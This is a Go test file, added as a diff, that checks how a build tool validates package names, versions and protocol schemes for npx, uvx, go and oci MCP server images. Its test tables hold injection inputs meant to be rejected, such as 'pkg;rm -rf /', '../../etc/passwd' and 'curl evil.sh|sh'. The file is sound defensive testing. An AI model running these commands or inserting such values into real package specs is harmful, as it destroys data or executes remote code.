@@ -0,0 +1,233 @@
+package build
+
+import (
+	"strings"
+	"testing"
+)
+
+func TestValidatePackageRef(t *testing.T) {
+	t.Parallel()
+
+	tests := []struct {
+		protocol string
+		name     string
+		version  string
+		wantErr  bool
+	}{
+		{"npx", "@upstash/context7-mcp", "1.0.14", false},
+		{"npx", "tavily-mcp", "0.2.1", false},
+		{"npx", "JSONStream", "", false},
+		{"npx", "@scope/name/extra", "1.0.0", true},
+		{"npx", "@scope", "1.0.0", true},
+		{"npx", "my package", "1.0.0", true},
+		{"npx", "pkg;rm -rf /", "1.0.0", true},
+		{"npx", "../../etc/passwd", "1.0.0", true},
+		{"npx", ".hidden", "1.0.0", true},
+		{"npx", "@upstash/context7-mcp", "1.0.0 && curl evil", true},
+		{"npx", strings.Repeat("a", 215), "", true},
+		{"uvx", "awslabs.aws-documentation-mcp-server", "1.1.23", false},
+		{"uvx", "mcp_server_time", "2025.1.0.post1", false},
+		{"uvx", "pkg", "1!2.0+local.1", false},
+		{"uvx", "-leading-dash", "1.0.0", true},
+		{"uvx", "name with spaces", "1.0.0", true},
+		{"uvx", "pkg@evil", "1.0.0", true},
+		{"go", "github.com/example/mcp-server/cmd/server", "v1.2.3", false},
+		{"go", "github.com/example/mcp-server", "latest", false},
+		{"go", "github.com/example/../../etc", "v1.0.0", true},
+		{"go", "github.com/example/mcp server", "v1.0.0", true},
+		{"go", "github.com/example/mcp", "v1.0.0$(id)", true},
+		{"oci", "ghcr.io/example/mcp-server", "1.2.3", false},
+		{"oci", "ghcr.io/example/mcp-server", "sha256:" + strings.Repeat("a", 64), false},
+		{"oci", "ghcr.io/Example/MCP", "1.2.3", true},
+		{"oci", "ghcr.io/example/mcp-server", "1.0; rm -rf /", true},
+		{"pip", "requests", "1.0.0", true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.protocol+"/"+tt.name, func(t *testing.T) {
+			t.Parallel()
+
+			err := validatePackageRef(tt.protocol, tt.name, tt.version)
+			if (err != nil) != tt.wantErr {
+				t.Errorf("validatePackageRef(%q, %q, %q) err = %v, wantErr %v",
+					tt.protocol, tt.name, tt.version, err, tt.wantErr)
+			}
+		})
+	}
+}
+
+func TestBuildProtocolScheme(t *testing.T) {
+	t.Parallel()
+
+	spec := &MCPServerSpec{
+		Metadata: MCPServerMetadata{Name: "context7", Protocol: "npx"},
+		Spec:     MCPServerPackageSpec{Package: "@upstash/context7-mcp", Version: "1.0.14"},
+	}
+	got, err := ProtocolScheme(spec)
+	if err != nil {
+		t.Fatalf("ProtocolScheme() error: %v", err)
+	}
+	if want := "npx://@upstash/context7-mcp@1.0.14"; got != want {
+		t.Errorf("ProtocolScheme() = %q, want %q", got, want)
+	}
+
+	spec.Spec.Package = "@upstash/context7-mcp@1.0.0 evil"
+	if _, err := ProtocolScheme(spec); err == nil {
+		t.Error("ProtocolScheme(invalid package) = nil error, want error")
+	}
+}
+
+func TestBuildProtocolSchemeOverride(t *testing.T) {
+	t.Parallel()
+
+	tests := []struct {
+		name     string
+		protocol string
+		scheme   string
+		wantErr  string
+	}{
+		{"extras", "uvx", "uvx://mcp-server-fetch[proxy]@2025.1.0", ""},
+		{"query parameters", "npx", "npx://@scope/server@1.0.0?registry=internal&tag=beta", ""},
+		{"other protocol", "npx", "uvx://mcp-server-fetch@2025.1.0", "must start with npx://"},
+		{"no package", "go", "go://", "names no package"},
+		{"shell injection", "npx", "npx://pkg@1.0.0;curl evil.sh|sh", "shell metacharacters"},
+		{"newline", "uvx", "uvx://pkg@1.0.0\nRUN id", "shell metacharacters"},
+		{"oci", "oci", "oci://ghcr.io/org/image:1.0.0", "prebuilt image"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			t.Parallel()
+
+			spec := &MCPServerSpec{
+				Metadata: MCPServerMetadata{Name: "server", Protocol: tt.protocol},
+				// The package is not part of an overridden scheme, so it is not validated
+				Spec: MCPServerPackageSpec{Package: "unused package", Version: "1.0.0", ProtocolScheme: tt.scheme},
+			}
+			got, err := ProtocolScheme(spec)
+			if tt.wantErr != "" {
+				if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
+					t.Fatalf("ProtocolScheme() error = %v, want it to contain %q", err, tt.wantErr)
+				}
+				return
+			}
+			if err != nil {
+				t.Fatalf("ProtocolScheme() error: %v", err)
+			}
+			if got != tt.scheme {
+				t.Errorf("ProtocolScheme() = %q, want %q", got, tt.scheme)
+			}
+		})
+	}
+}
+
+func TestBuildProtocolSchemeGo(t *testing.T) {
+	t.Parallel()
+
+	tests := []struct {
+		name    string
+		pkg     string
+		version string
+		want    string
+		wantErr bool
+	}{
+		{"module root", "github.com/example/tool", "v1.2.3", "go://github.com/example/tool@v1.2.3", false},
+		{"nested cmd", "github.com/example/tool/cmd/server", "v1.2.3", "go://github.com/example/tool/cmd/server@v1.2.3", false},
+		{"inline version", "github.com/example/tool/cmd/server@v1.2.3", "", "go://github.com/example/tool/cmd/server@v1.2.3", false},
+		{"inline and matching version", "github.com/example/tool/cmd/server@v1.2.3", "v1.2.3",
+			"go://github.com/example/tool/cmd/server@v1.2.3", false},
+		{"major version suffix", "github.com/example/tool/v2/cmd/server", "v2.0.1",
+			"go://github.com/example/tool/v2/cmd/server@v2.0.1", false},
+		{"no version", "github.com/example/tool/cmd/server", "", "go://github.com/example/tool/cmd/server@latest", false},
+		{"conflicting versions", "github.com/example/tool/cmd/server@v1.2.3", "v1.3.0", "", true},
+		{"invalid inline version", "github.com/example/tool@v1.2.3;id", "", "", true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			t.Parallel()
+
+			spec := &MCPServerSpec{
+				Metadata: MCPServerMetadata{Name: "server", Protocol: "go"},
+				Spec:     MCPServerPackageSpec{Package: tt.pkg, Version: tt.version},
+			}
+			got, err := ProtocolScheme(spec)
+			if (err != nil) != tt.wantErr {
+				t.Fatalf("ProtocolScheme() error = %v, wantErr %v", err, tt.wantErr)
+			}
+			if got != tt.want {
+				t.Errorf("ProtocolScheme() = %q, want %q", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestDefaultVersion(t *testing.T) {
+	t.Parallel()
+
+	tests := []struct {
+		protocol   string
+		pkg        string
+		wantScheme string
+		wantTag    string
+	}{
+		{"npx", "@example/server", "npx://@example/server@latest", "reg.example.com/npx/server:latest"},
+		{"uvx", "example-server", "uvx://example-server", "reg.example.com/uvx/server:latest"},
+		{"go", "github.com/example/server", "go://github.com/example/server@latest", "reg.example.com/go/server:latest"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.protocol, func(t *testing.T) {
+			t.Parallel()
+
+			spec := &MCPServerSpec{
+				Metadata: MCPServerMetadata{Name: "server", Protocol: tt.protocol},
+				Spec:     MCPServerPackageSpec{Package: tt.pkg},
+			}
+			scheme, err := ProtocolScheme(spec)
+			if err != nil {
+				t.Fatalf("ProtocolScheme() error: %v", err)
+			}
+			if scheme != tt.wantScheme {
+				t.Errorf("ProtocolScheme() = %q, want %q", scheme, tt.wantScheme)
+			}
+			if got := ImageTag(spec, "reg.example.com"); got != tt.wantTag {
+				t.Errorf("ImageTag() = %q, want %q", got, tt.wantTag)
+			}
+		})
+	}
+}
+
+func TestGenerateImageTagGo(t *testing.T) {
+	t.Parallel()
+
+	tests := []struct {
+		name     string
+		metaName string
+		pkg      string
+		version  string
+		want     string
+	}{
+		{"plain name", "tool", "github.com/example/tool/cmd/server", "v1.2.3", "reg.example.com/go/tool:v1.2.3"},
+		{"nested cmd path", "github.com/example/tool/cmd/server", "github.com/example/tool/cmd/server", "v1.2.3",
+			"reg.example.com/go/server:v1.2.3"},
+		{"major version suffix", "github.com/example/tool/v2", "github.com/example/tool/v2", "v2.0.1",
+			"reg.example.com/go/tool:v2.0.1"},
+		{"inline version", "server", "github.com/example/tool/cmd/server@v1.2.3", "", "reg.example.com/go/server:v1.2.3"},
+		{"no version", "server", "github.com/example/tool/cmd/server", "", "reg.example.com/go/server:latest"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			t.Parallel()
+
+			spec := &MCPServerSpec{
+				Metadata: MCPServerMetadata{Name: tt.metaName, Protocol: "go"},
+				Spec:     MCPServerPackageSpec{Package: tt.pkg, Version: tt.version},
+			}
+			if got := ImageTag(spec, "reg.example.com"); got != tt.want {
+				t.Errorf("ImageTag() = %q, want %q", got, tt.want)
+			}
+		})
+	}
+}